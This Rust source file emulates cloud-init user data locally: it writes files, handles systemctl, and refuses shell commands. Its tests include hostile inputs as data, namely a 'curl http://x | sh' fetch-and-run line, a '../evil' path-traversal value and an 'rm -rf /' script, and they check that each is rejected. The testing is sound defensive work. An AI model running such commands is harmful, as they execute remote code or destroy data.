//! User data as cloud-init does it: files are written, then commands run.

use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::Value;

use super::Objects;
use super::commands::{below, parse_mode, perform};

/// Where systemd looks for units.
const UNITS: &str = "/etc/systemd/system";

/// The most levels of lists and mappings in user data: every one uses some of the stack.
const MOST_LEVELS: usize = 16;

/// Where an enabled unit is linked.
const WANTED: &str = "/etc/systemd/system/multi-user.target.wants";

/// Does everything user data says and tells each step through `log`; what fails does not keep the rest from being
/// done, as on a real machine. The answer is the units that were started.
pub async fn run(root: &Path, objects: &dyn Objects, user_data: &str, log: impl Fn(&str)) -> Vec<String> {
    let mut started = Vec::new();
    let config = match parse(user_data) {
        Ok(config) => config,
        Err(why) => {
            log(&format!("cloud-init: ERROR: {why}"));
            return started;
        }
    };
    for (name, value) in &config {
        match name.as_str() {
            "write_files" => write_files(root, value, &log),
            "runcmd" => (),
            other => log(&format!("cloud-init: ERROR: the module '{other}' does not exist on a local instance")),
        }
    }
    for command in config.get("runcmd").and_then(Value::as_array).into_iter().flatten() {
        let words = words(command);
        let done = match words.first().map(|program| program.rsplit('/').next().unwrap_or(program)) {
            Some("systemctl") => systemctl(root, &words[1..], &mut started),
            _ => perform(root, objects, &words).await,
        };
        match done {
            Ok(()) => log(&format!("cloud-init: ran {}", words.join(" "))),
            Err(why) => log(&format!("cloud-init: ERROR: {why}")),
        }
    }
    started
}

fn parse(user_data: &str) -> Result<BTreeMap<String, Value>, String> {
    if user_data.trim().is_empty() {
        return Ok(BTreeMap::new());
    }
    if !user_data.starts_with("#cloud-config") {
        return Err(
            "the user data does not begin with #cloud-config; scripts do not run on a local instance".to_owned()
        );
    }
    let options = serde_yaml::options! { budget: serde_yaml::budget! { max_depth: MOST_LEVELS } };
    let read = serde_yaml::from_str_with_options(user_data, options);
    read.map_err(|error| format!("the user data is no YAML: {error}"))
}

fn write_files(root: &Path, files: &Value, log: &impl Fn(&str)) {
    for file in files.as_array().into_iter().flatten() {
        let text = |name: &str| file.get(name).and_then(Value::as_str);
        let path = text("path").unwrap_or_default();
        match write_file(root, path, text) {
            Ok(()) => log(&format!("cloud-init: wrote {path}")),
            Err(why) => log(&format!("cloud-init: ERROR: failed to write '{path}': {why}")),
        }
    }
}

fn write_file<'a>(root: &Path, path: &str, text: impl Fn(&str) -> Option<&'a str>) -> Result<(), String> {
    let real = below(root, path)?;
    let content = text("content").unwrap_or_default();
    let bytes = match text("encoding") {
        None | Some("text/plain") => content.as_bytes().to_vec(),
        Some("b64" | "base64") => STANDARD.decode(content.trim()).map_err(|error| error.to_string())?,
        Some(other) => return Err(format!("the encoding '{other}' is not known here")),
    };
    let mode = parse_mode(text("permissions").unwrap_or("0644"))?;
    let parent = real.parent().unwrap_or(root);
    std::fs::create_dir_all(parent)
        .and_then(|()| std::fs::write(&real, bytes))
        .and_then(|()| std::fs::set_permissions(&real, std::fs::Permissions::from_mode(mode)))
        .map_err(|error| error.to_string())
}

/// A command is a list of words, or a line; a line that needs a shell is left to `perform` to refuse.
fn words(command: &Value) -> Vec<String> {
    let text = |word: &Value| word.as_str().map_or_else(|| word.to_string(), str::to_owned);
    match command {
        Value::Array(words) => words.iter().map(text).collect(),
        Value::String(line) if line.contains(['|', '&', ';', '<', '>', '$', '`', '"', '\'', '\\', '*']) => {
            vec![line.clone()]
        }
        Value::String(line) => line.split_whitespace().map(str::to_owned).collect(),
        other => vec![text(other)],
    }
}

fn systemctl(root: &Path, arguments: &[String], started: &mut Vec<String>) -> Result<(), String> {
    let (options, rest): (Vec<&str>, Vec<&str>) =
        arguments.iter().map(String::as_str).partition(|word| word.starts_with("--"));
    let Some((verb, units)) = rest.split_first() else {
        return Err("systemctl: a verb is needed".to_owned());
    };
    if *verb == "daemon-reload" {
        return Ok(());
    }
    if !matches!(*verb, "enable" | "start" | "restart") {
        return Err(format!("systemctl {verb}: this does not exist on a local instance"));
    }
    for unit in units {
        let unit = if unit.contains('.') { (*unit).to_owned() } else { format!("{unit}.service") };
        let file = below(root, &format!("{UNITS}/{unit}"))?;
        if !file.is_file() {
            return Err(format!("Failed to {verb} unit: Unit file {unit} does not exist."));
        }
        if *verb == "enable" {
            enable(root, &unit).map_err(|error| format!("Failed to enable unit {unit}: {error}"))?;
        }
        if (*verb != "enable" || options.contains(&"--now")) && !started.contains(&unit) {
            started.push(unit);
        }
    }
    Ok(())
}

fn enable(root: &Path, unit: &str) -> std::io::Result<()> {
    let wanted = root.join(&WANTED[1..]);
    std::fs::create_dir_all(&wanted)?;
    match std::os::unix::fs::symlink(format!("../{unit}"), wanted.join(unit)) {
        Err(error) if error.kind() == std::io::ErrorKind::AlreadyExists => Ok(()),
        done => done,
    }
}

/// The units that start when the machine does.
pub fn enabled_units(root: &Path) -> Vec<String> {
    let entries = std::fs::read_dir(root.join(&WANTED[1..])).into_iter().flatten();
    entries.filter_map(|entry| entry.ok()?.file_name().into_string().ok()).collect()
}

/// The text of a unit's file.
pub fn unit_file(root: &Path, unit: &str) -> Result<String, String> {
    let file = below(root, &format!("{UNITS}/{unit}"))?;
    std::fs::read_to_string(file).map_err(|error| format!("{unit}: {error}"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use async_trait::async_trait;
    use bytes::Bytes;
    use std::cell::RefCell;

    struct NoObjects;

    #[async_trait]
    impl Objects for NoObjects {
        async fn get(&self, _bucket: &str, _key: &str) -> Result<Bytes, String> {
            Err("NoSuchKey".to_owned())
        }
    }

    async fn boot(root: &Path, user_data: &str) -> (Vec<String>, Vec<String>) {
        let log = RefCell::new(Vec::new());
        let started = run(root, &NoObjects, user_data, |line| log.borrow_mut().push(line.to_owned())).await;
        (started, log.into_inner())
    }

    #[tokio::test]
    async fn files_are_written_and_units_started() {
        let dir = tempfile::tempdir().unwrap();
        let user_data = "#cloud-config\nwrite_files:\n- path: /etc/web.env\n  permissions: '0600'\n  content: |\n    A=\"1\"\n- path: /etc/systemd/system/web.service\n  content: |\n    [Service]\n    ExecStart=/opt/web\nruncmd:\n- [mkdir, -p, /opt]\n- [systemctl, daemon-reload]\n- [systemctl, enable, --now, web.service]\n";
        let (started, log) = boot(dir.path(), user_data).await;
        assert_eq!(started, ["web.service"]);
        assert_eq!(enabled_units(dir.path()), ["web.service"]);
        assert_eq!(std::fs::read_to_string(dir.path().join("etc/web.env")).unwrap(), "A=\"1\"\n");
        let mode = std::fs::metadata(dir.path().join("etc/web.env")).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
        assert!(log.iter().all(|line| !line.contains("ERROR")), "{log:?}");
    }

    #[tokio::test]
    async fn what_cannot_be_done_is_told_and_the_rest_is_done() {
        let dir = tempfile::tempdir().unwrap();
        let user_data = "#cloud-config\npackages: [nginx]\nwrite_files:\n- path: ../evil\nruncmd:\n- curl http://x | sh\n- mkdir -p /opt/web\n- [systemctl, start, missing]\n";
        let (started, log) = boot(dir.path(), user_data).await;
        assert!(started.is_empty());
        assert!(dir.path().join("opt/web").is_dir());
        assert_eq!(
            log,
            [
                "cloud-init: ERROR: the module 'packages' does not exist on a local instance",
                "cloud-init: ERROR: failed to write '../evil': '../evil' is no absolute path",
                "cloud-init: ERROR: curl http://x | sh: this command does not exist on a local instance",
                "cloud-init: ran mkdir -p /opt/web",
                "cloud-init: ERROR: Failed to start unit: Unit file missing.service does not exist.",
            ]
        );
        let (_, log) = boot(dir.path(), "#!/bin/sh\nrm -rf /").await;
        assert!(log[0].contains("scripts do not run"), "{log:?}");
    }
}
